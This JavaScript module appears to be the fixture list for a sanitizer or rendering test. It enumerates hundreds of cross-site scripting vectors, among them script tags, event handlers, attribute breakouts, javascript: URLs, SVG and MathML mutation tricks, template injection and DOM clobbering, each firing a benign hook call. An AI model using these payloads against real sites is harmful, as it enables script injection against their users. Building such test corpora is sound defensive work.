// Known ways to have a page run a script that its author did not write, as plain texts. `⟐` stands for the call that would prove it, hook(N).
// They are grouped by the gap that they look for; which of them run in Chromium where a page takes them over as they are is part of the test.

const raw = String.raw;

const families = {
  elements: [
    raw`<script>⟐</script>`, raw`<SCRIPT>⟐</SCRIPT>`, raw`<ScRiPt >⟐</ScRiPt >`, raw`<script/x>⟐</script>`, raw`<script src="data:text/javascript,⟐"></script>`,
    raw`<script src=data:,⟐></script>`, raw`<script type=module>⟐</script>`, raw`<script type="text/javascript">⟐</script>`, raw`<script language=vbscript>⟐</script>`,
    raw`<script>⟐`, raw`<script>/*</script><svg onload=/*/⟐/*>`, raw`<<script>⟐//<</script>`, raw`<scr<script>ipt>⟐</scr</script>ipt>`, raw`<script x=">" src="data:,⟐"></script>`,
    raw`<script src="//example.invalid/x.js?⟐"></script>`, raw`<script>eval("⟐")</script>`, raw`<script>Function("⟐")()</script>`, raw`<script>setTimeout("⟐")</script>`,
    raw`<script>top["ho"+"ok"](⟐)</script>`, raw`<script>a=document.createElement("script");a.text="⟐";document.head.append(a)</script>`,
    raw`<script async defer crossorigin src='data:text/javascript;charset=utf-8,⟐'></script>`, raw`<script>import("data:text/javascript,top.⟐")</script>`,
  ],
  handlers: [
    raw`<img src=x onerror=⟐>`, raw`<img src=x onerror="⟐">`, raw`<IMG SRC=x ONERROR=⟐>`, raw`<img/src=x/onerror=⟐>`, raw`<img src=x:x onerror=⟐ />`, raw`<img src onerror=⟐>`,
    raw`<img src=x onerror=eval('⟐')>`, raw`<img srcset=x onerror=⟐>`, raw`<image src=x onerror=⟐>`, raw`<img src="x` + '`' + raw`" onerror="⟐">`, raw`<img """><script>⟐</script>">`,
    raw`<img src=data:image/svg+xml,<svg/> onload=⟐>`, raw`<svg onload=⟐>`, raw`<svg/onload=⟐>`, raw`<svg onload="⟐"/>`, raw`<body onload=⟐>`, raw`<body onpageshow=⟐>`,
    raw`<body onhashchange=⟐><a href=#x>`, raw`<body onresize=⟐>`, raw`<body onscroll=⟐><br><br><input autofocus>`, raw`<body onfocus=⟐>`, raw`<body onbeforeprint=⟐>`,
    raw`<input autofocus onfocus=⟐>`, raw`<input onblur=⟐ autofocus><input autofocus>`, raw`<input type=image src=x onerror=⟐>`, raw`<select autofocus onfocus=⟐>`,
    raw`<textarea autofocus onfocus=⟐>`, raw`<keygen autofocus onfocus=⟐>`, raw`<button autofocus onfocus=⟐>b</button>`, raw`<a id=x tabindex=1 onfocus=⟐ autofocus>a</a>`,
    raw`<div contenteditable autofocus onfocus=⟐>d</div>`, raw`<video src=x onerror=⟐>`, raw`<video><source onerror=⟐></video>`, raw`<audio src=x onerror=⟐>`,
    raw`<video poster=x onloadstart=⟐><source></video>`, raw`<details open ontoggle=⟐>d</details>`, raw`<marquee onstart=⟐>m</marquee>`, raw`<marquee loop=1 width=0 onfinish=⟐>m</marquee>`,
    raw`<object data=x onerror=⟐></object>`, raw`<iframe onload=⟐></iframe>`, raw`<frameset onload=⟐>`, raw`<style onload=⟐></style>`, raw`<link rel=stylesheet href=data:text/css, onload=⟐>`,
    raw`<script src=x onerror=⟐></script>`, raw`<div onmouseover=⟐ style="position:fixed;inset:0">d</div>`, raw`<div onpointerenter="⟐">d</div>`, raw`<p onclick=⟐>p</p>`, raw`<b onmouseenter=⟐>b</b>`,
    raw`<x onclick=⟐>x</x>`, raw`<x style="animation-name:x" onanimationstart=⟐></x>`, raw`<style>@keyframes x{}</style><p style="animation:x 1s" onanimationend=⟐>p</p>`,
    raw`<p style="transition:all 1s" ontransitionend=⟐>p</p>`, raw`<div onwheel=⟐>w</div>`, raw`<a onauxclick=⟐ href=#>a</a>`, raw`<dialog open onclose=⟐><form method=dialog><button>b</button></form></dialog>`,
    raw`<form oninput=⟐><input></form>`, raw`<form><button formaction=javascript:⟐>b</button></form>`, raw`<div popover id=q onbeforetoggle=⟐>d</div><button popovertarget=q>b</button>`,
    raw`<p oncopy=⟐>p</p>`, raw`<p oncut=⟐ contenteditable>p</p>`, raw`<p onpaste=⟐ contenteditable>p</p>`, raw`<p draggable=true ondragstart=⟐>p</p>`, raw`<math onclick=⟐>m</math>`,
  ],
  breakouts: [
    raw`"><script>⟐</script>`, raw`'><script>⟐</script>`, raw`"><img src=x onerror=⟐>`, raw`'><svg onload=⟐>`, raw`" onmouseover="⟐`, raw`' onmouseover='⟐`, raw`" autofocus onfocus="⟐`,
    raw`" onfocus=⟐ autofocus x="`, raw`' autofocus onfocus=⟐ '`, raw`x onerror=⟐`, raw`" style="animation-name:x" onanimationstart="⟐`, raw`"/><svg/onload=⟐>`, raw`\"><script>⟐</script>`,
    raw`&quot;&gt;&lt;script&gt;⟐&lt;/script&gt;`, raw`&#34;&#62;&#60;script&#62;⟐&#60;/script&#62;`, raw`&amp;lt;script&amp;gt;⟐&amp;lt;/script&amp;gt;`, raw`&lt;img src=x onerror=⟐&gt;`,
    raw`</title><script>⟐</script>`, raw`</textarea><script>⟐</script>`, raw`</style><script>⟐</script>`, raw`</noscript><script>⟐</script>`, raw`</xmp><script>⟐</script>`,
    raw`</template><script>⟐</script>`, raw`</select><script>⟐</script>`, raw`</iframe><script>⟐</script>`, raw`</noembed><script>⟐</script>`, raw`</noframes><script>⟐</script>`,
    raw`</plaintext><script>⟐</script>`, raw`</option></select><img src=x onerror=⟐>`, raw`</text></svg><script>⟐</script>`, raw`</pre><script>⟐</script>`, raw`</td></tr></table><script>⟐</script>`,
    raw`</head><body onload=⟐>`, raw`</body></html><script>⟐</script>`, raw`</a></span></p></div></main><script>⟐</script>`, raw`<title><img src="</title><img src=x onerror=⟐>">`,
    raw`<textarea><img title="</textarea><img src=x onerror=⟐>"></textarea>`, raw`<noscript><p title="</noscript><img src=x onerror=⟐>"></noscript>`,
    raw`<xmp><p title="</xmp><svg onload=⟐>"></xmp>`, raw`<style><a title="</style><img src=x onerror=⟐>"></style>`, raw`<iframe><p title="</iframe><img src=x onerror=⟐>"></iframe>`,
    raw`<noembed><p title="</noembed><img src=x onerror=⟐>"></noembed>`, raw`<plaintext><script>⟐</script>`, raw`<select><option><style></option></select><img src=x onerror=⟐></style>`,
  ],
  markup: [
    raw`<!--><img src=x onerror=⟐>-->`, raw`<!---><img src=x onerror=⟐>-->`, raw`<!-- --!><img src=x onerror=⟐> -->`, raw`--><script>⟐</script><!--`, raw`<!--[if IE]><script>⟐</script><![endif]-->`,
    raw`<!--<img src="--><img src=x onerror=⟐>">`, raw`<![CDATA[><script>⟐</script>]]>`, raw`]]><script>⟐</script>`, raw`<![CDATA[<]]>script<![CDATA[>]]>⟐<![CDATA[<]]>/script<![CDATA[>]]>`,
    raw`<?xml version="1.0"?><script>⟐</script>`, raw`<?php echo 1 ?><script>⟐</script>`, raw`<? foo="><script>⟐</script>">`, raw`<! foo="><script>⟐</script>">`, raw`</ foo="><script>⟐</script>">`,
    raw`<!DOCTYPE x [<!ENTITY y "<script>⟐</script>">]>&y;`, raw`<%<!--'%><script>⟐</script -->`, raw`<a/="><img src=x onerror=⟐>">`, raw`<a b='` + '`' + raw`<img src=x onerror=⟐>` + '`' + raw`'>`,
    raw`<x:script xmlns:x="http://www.w3.org/1999/xhtml">⟐</x:script>`, raw`<html xmlns:x><x:script>⟐</x:script>`, '<img src=x\nonerror\n=\n⟐\n>', '<img\tsrc=x\tonerror=⟐>', '<img\fsrc=x\fonerror=⟐>',
    '<img src=x onerror\v=⟐>', '<scr\0ipt>⟐</scr\0ipt>', '<img src=x onerr\0or=⟐>', '<script\u2028>⟐</script>', '\ufeff<script>⟐</script>', '＜script＞⟐＜/script＞', '‹script›⟐‹/script›', '\u00abscript\u00bb⟐',
    '+ADw-script+AD4-⟐+ADw-/script+AD4-', '%3Cscript%3E⟐%3C/script%3E', '\\u003cscript\\u003e⟐\\u003c/script\\u003e', '\\x3cscript\\x3e⟐\\x3c/script\\x3e', '\u202e<script>⟐</script>', '<ſcript>⟐</ſcript>', '<İmg src=x onerror=⟐>',
  ],
  addresses: [
    raw`javascript:⟐`, raw`JaVaScRiPt:⟐`, raw` javascript:⟐`, raw`javascript://example.com/%0A⟐`, raw`javascript:/**/⟐`, raw`javascript&colon;⟐`, raw`javascript&#58;⟐`, raw`javascript&#x3A;⟐`, raw`&#106;avascript:⟐`,
    raw`&#x6A;&#x61;vascript:⟐`, raw`&#0000106avascript:⟐`, raw`java&Tab;script:⟐`, raw`java&NewLine;script:⟐`, raw`java&#9;script:⟐`, 'java\tscript:⟐', 'java\nscript:⟐', 'java\rscript:⟐', '\u0001javascript:⟐', 'javascript\u0000:⟐',
    '\u00a0javascript:⟐', '\u3000javascript:⟐', '\u200bjavascript:⟐', 'javascript\uff1a⟐', raw`%6Aavascript:⟐`, raw`javascript%3A⟐`, raw`vbscript:⟐`, raw`livescript:⟐`, raw`mocha:⟐`, raw`jar:javascript:⟐`, raw`view-source:javascript:⟐`,
    raw`data:text/html,<script>top.⟐</script>`, raw`data:text/html;base64,PHNjcmlwdD50b3AuaG9vaygxKTwvc2NyaXB0Pg==#⟐`, raw`data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="⟐"/>`, raw`DATA:text/html,⟐`,
    raw`data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">⟐</script>`, raw`blob:https://example.com/⟐`, raw`filesystem:https://example.com/⟐`, raw`file:///etc/passwd?⟐`, raw`about:blank#⟐`,
    raw`//example.invalid/⟐`, raw`\\example.invalid\⟐`, raw`/\example.invalid/⟐`, raw`https:example.invalid?⟐`, raw`https://example.invalid"onmouseover="⟐`, raw`https://example.invalid/'><script>⟐</script>`,
    raw`https://javascript:⟐@example.invalid/`, raw`feed:javascript:⟐`, raw`intent://x#Intent;S.y=⟐;end`, raw`ws://example.invalid/⟐`,
  ],
  links: [
    raw`<a href="javascript:⟐">a</a>`, raw`<a href=javascript:⟐>a</a>`, raw`<a href="java&#10;script:⟐">a</a>`, raw`<a href="&#1;javascript:⟐">a</a>`, raw`<a href="data:text/html,<script>⟐</script>">a</a>`, raw`<a href="vbscript:⟐">a</a>`,
    raw`<a href="javascript:⟐" target=_blank>a</a>`, raw`<area href="javascript:⟐">`, raw`<map name=m><area shape=default href="javascript:⟐"></map><img usemap=#m src=x>`, raw`<a href=# ping="//example.invalid/⟐">a</a>`,
    raw`<form action="javascript:⟐"><input type=submit></form>`, raw`<form id=f></form><button form=f formaction="javascript:⟐">b</button>`, raw`<isindex action="javascript:⟐" type=submit>`, raw`<input type=submit formaction=javascript:⟐>`,
    raw`<iframe src="javascript:top.⟐"></iframe>`, raw`<iframe srcdoc="<script>top.⟐</script>"></iframe>`, raw`<iframe srcdoc="&lt;img src=x onerror=top.⟐&gt;"></iframe>`, raw`<iframe src="data:text/html,<script>top.⟐</script>"></iframe>`,
    raw`<frameset><frame src="javascript:top.⟐"></frameset>`, raw`<object data="javascript:⟐"></object>`, raw`<object data="data:text/html,<script>⟐</script>"></object>`, raw`<object type="text/x-scriptlet" data="//example.invalid/⟐"></object>`,
    raw`<embed src="javascript:⟐">`, raw`<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='⟐'/>">`, raw`<applet code="⟐"></applet>`, raw`<param name=src value="javascript:⟐">`, raw`<portal src="javascript:⟐"></portal>`,
    raw`<base href="javascript:⟐//">`, raw`<base href="//example.invalid/⟐/">`, raw`<base target="⟐">`, raw`<meta http-equiv=refresh content="0;url=javascript:⟐">`, raw`<meta http-equiv=refresh content="0;url=data:text/html,<script>⟐</script>">`,
    raw`<meta http-equiv=refresh content="0;//example.invalid/⟐">`, raw`<meta http-equiv=set-cookie content="x=⟐">`, raw`<link rel=import href="data:text/html,<script>⟐</script>">`, raw`<link rel=stylesheet href="javascript:⟐">`,
    raw`<link rel=prefetch href="//example.invalid/⟐">`, raw`<link rel=manifest href="//example.invalid/⟐">`, raw`<img src="javascript:⟐">`, raw`<img dynsrc="javascript:⟐">`, raw`<img lowsrc="javascript:⟐">`, raw`<body background="javascript:⟐">`,
    raw`<table background="javascript:⟐">`, raw`<td background="javascript:⟐">`, raw`<bgsound src="javascript:⟐">`, raw`<blockquote cite="javascript:⟐">q</blockquote>`, raw`<video poster="javascript:⟐"></video>`, raw`<q cite="javascript:⟐">q</q>`,
    raw`[a](javascript:⟐)`, raw`[a](<javascript:⟐>)`, raw`[a](java&#115;cript:⟐)`, raw`![a](javascript:⟐)`, raw`![a" onerror="⟐](x)`, raw`[a](x "t" onmouseover="⟐")`, raw`[a]: javascript:⟐`, raw`<javascript:⟐>`, raw`[a](data:text/html,⟐)`,
    raw`![a](x"onerror="⟐)`, raw`[<script>⟐</script>](x)`, '`` ` `` <script>⟐</script>', '```html\n<script>⟐</script>\n', raw`[a](javascript:⟐//"onclick="⟐)`, raw`| <script>⟐</script> |`, raw`[^1]: <script>⟐</script>`,
  ],
  foreign: [
    raw`<svg><script>⟐</script></svg>`, raw`<svg><script href="data:,⟐"/></svg>`, raw`<svg><script xlink:href="data:text/javascript,⟐"></script></svg>`, raw`<svg><script>&#104;ook(⟐)</script></svg>`, raw`<svg><a xlink:href="javascript:⟐"><text y=9>a</text></a></svg>`,
    raw`<svg><a href="javascript:⟐"><text y=9>a</text></a></svg>`, raw`<svg><a><animate attributeName=href values="javascript:⟐"/><text y=9>a</text></a></svg>`, raw`<svg><a><set attributeName=href to="javascript:⟐"/><text y=9>a</text></a></svg>`,
    raw`<svg><animate onbegin=⟐ attributeName=x dur=1s>`, raw`<svg><set onbegin=⟐ attributeName=x to=1>`, raw`<svg><animate attributeName=x dur=.01s onend=⟐>`, raw`<svg><animateTransform onbegin=⟐ attributeName=transform dur=1s>`,
    raw`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='⟐'/></svg>#x"/></svg>`, raw`<svg><image href=x onerror=⟐>`, raw`<svg><foreignObject><iframe srcdoc="<script>top.⟐</script>"></iframe></foreignObject></svg>`,
    raw`<svg><style>*{x:"</style><img src=x onerror=⟐>"}</style></svg>`, raw`<svg><desc><img src=x onerror=⟐></desc></svg>`, raw`<svg><title><img src=x onerror=⟐></title></svg>`, raw`<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>⟐</handler></svg>`,
    raw`<svg><feImage href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='⟐'/>"/></svg>`, raw`<math><mtext><script>⟐</script></mtext></math>`, raw`<math href="javascript:⟐">m</math>`, raw`<math><maction actiontype="statusline#x" xlink:href="javascript:⟐">m</maction></math>`,
    raw`<math><annotation-xml encoding="text/html"><img src=x onerror=⟐></annotation-xml></math>`, raw`<math><mi xlink:href="data:x,<script>⟐</script>">m</mi></math>`, raw`<math><style><img src=x onerror=⟐></style></math>`,
  ],
  mutation: [
    raw`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=⟐&gt;">`, raw`<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=⟐>`, raw`<svg></p><style><a id="</style><img src=x onerror=⟐>">`,
    raw`<math><mtext><mglyph><style><math><table></style><img src=x onerror=⟐>`, raw`<svg><p><style><g title="</style><img src=x onerror=⟐>">`, raw`<noscript><style></noscript><img src=x onerror=⟐></style>`, raw`<listing>&lt;img src=x onerror=⟐&gt;</listing>`,
    raw`<a id="` + '``onmouseover=⟐' + raw`">x</a>`, raw`<table><td><svg><desc><td><img src=x onerror=⟐>`, raw`<p><svg><p><math><script>⟐</script>`, raw`<svg><svg><b><noscript>&lt;/noscript&gt;&lt;iframe&Tab;onload=⟐&gt;</noscript></b></svg>`,
    raw`<template><script>⟐</script></template>`, raw`<template shadowrootmode=open><script>⟐</script></template>`, raw`<div><template shadowrootmode=open><img src=x onerror=⟐></template></div>`, raw`<frameset><noframes><img src=x onerror=⟐></noframes></frameset>`,
    raw`<select><iframe><script>⟐</script></iframe></select>`, raw`<table><script>⟐</script></table>`, raw`<a href="#"><p><a href="javascript:⟐">x</a></p></a>`, raw`<b><p title="</b><img src=x onerror=⟐>">x</p></b>`, raw`<nobr><nobr><img src=x onerror=⟐>`,
  ],
  styles: [
    raw`<style>@import "javascript:⟐";</style>`, raw`<style>*{background:url("javascript:⟐")}</style>`, raw`<style>*{background:url(//example.invalid/⟐)}</style>`, raw`<style>body{-moz-binding:url("data:text/xml,⟐")}</style>`, raw`<style>*{behavior:url(x.htc#⟐)}</style>`,
    raw`<div style="background:url(javascript:⟐)">d</div>`, raw`<div style="width:expression(⟐)">d</div>`, raw`<div style="width:exp/**/ression(⟐)">d</div>`, raw`<div style="xss:&#101;xpression(⟐)">d</div>`, raw`<div style="background:url(//example.invalid/⟐)">d</div>`,
    raw`<style>a{x:'</style><script>⟐</script>'}</style>`, raw`<p style="list-style:url(javascript:⟐)">p</p>`, raw`<link rel=stylesheet href="data:text/css,*{background:url(//example.invalid/⟐)}">`, raw`<style>@font-face{font-family:x;src:url(//example.invalid/⟐)}</style>`,
    raw`<xss style="behavior:url(#default#time2)" onbegin="⟐">x</xss>`,
  ],
  scripts: [
    raw`</script><script>⟐</script>`, raw`</script><img src=x onerror=⟐>`, raw`<!--<script>⟐</script>`, raw`<!--<script>`, raw`</SCRIPT ><svg onload=⟐>`, raw`"});⟐;({"x":"`, raw`"]);⟐;(["`, raw`");⟐;//`, raw`');⟐;//`, raw`\");⟐;//`, raw`\\");⟐;//`, '`);⟐;//', '${⟐}',
    raw`*/⟐/*`, '\u2028⟐//', '\u2029⟐//', '"\u2028);⟐;//', raw`"-⟐-"`, raw`'-⟐-'`, raw`\u0022);⟐;//`, raw`{"__proto__":{"x":"⟐"}}`, raw`__proto__ ⟐`, raw`constructor ⟐`, raw`toString ⟐`, raw`$&$1$` + '`' + raw`⟐`, raw`{0}{1} ⟐`, raw`%0A⟐//`,
  ],
  templates: [
    raw`{{ "<script>⟐</script>" | safe }}`, raw`{{ ⟐ }}`, raw`{{constructor.constructor('⟐')()}}`, raw`{% raw %}<script>⟐</script>{% endraw %}`, raw`{% block main %}<script>⟐</script>{% endblock %}`, raw`{% include "x" %}⟐`, raw`{# #}<script>⟐</script>`, raw`{%%}⟐`, raw`{{`, raw`}}<script>⟐</script>`,
    raw`<%= ⟐ %>`, raw`#{⟐}`, raw`[[⟐]]`, raw`{{=<% %>=}}<script>⟐</script>`, raw`@{⟐}`, raw`<div ng-app ng-csp>{{$eval.constructor('⟐')()}}</div>`, raw`<div v-html="'<img src=x onerror=⟐>'"></div>`, raw`<x-y is="v" x-init="⟐">x</x-y>`,
  ],
  clobbering: [
    raw`<form id=reportal><input name=make value="⟐"><input name=say></form>`, raw`<a id=reportal><a id=reportal name=make href="javascript:⟐">`, raw`<img name=currentScript><a href="javascript:⟐">a</a>`, raw`<img name=getElementById src=x onerror=⟐>`, raw`<form name=body><input name=append></form>⟐`,
    raw`<a id=reportalSearch href="javascript:⟐">a</a>`, raw`<a id=reportalSearchEngine name=Engine href="javascript:⟐">a</a>`, raw`<a id=reportalCases href="javascript:⟐">a</a>`, raw`<form id=at_search data-found="<img src=x onerror=⟐>"></form>`, raw`<div id=at_results>⟐</div>`, raw`<input id=at_query value="⟐">`,
    raw`<form name=cookie></form><a href="javascript:⟐">a</a>`, raw`<iframe name=self srcdoc="<a id=x href='javascript:top.⟐'>"></iframe>`, raw`<a id=defaultView href=javascript:⟐>a</a>`, raw`<object id=location data="javascript:⟐"></object>`, raw`<dl class=facets data-filter="data:text/javascript,⟐"></dl>`,
    raw`<script data-copied="x" src="x.js?search/index.js" onerror=⟐></script>`, raw`<span data-fill="day" data-fragment="⟐">x</span>`, raw`<span data-cites="p-1"><img src=x onerror=⟐></span>`, raw`<table data-sortable><thead><tr><th><img src=x onerror=⟐></th></tr></thead></table>`, raw`<p class=citation data-copy onclick=⟐>x</p>`,
  ],
};

/** { number, family, text } of every vector; numbers begin at 1. */
export const vectors = Object.entries(families).flatMap(([family, texts]) => texts.map((text) => ({ family, text })))
  .map(({ family, text }, i) => ({ number: i + 1, family, text: text.replaceAll('⟐', `hook(${i + 1})`) }));
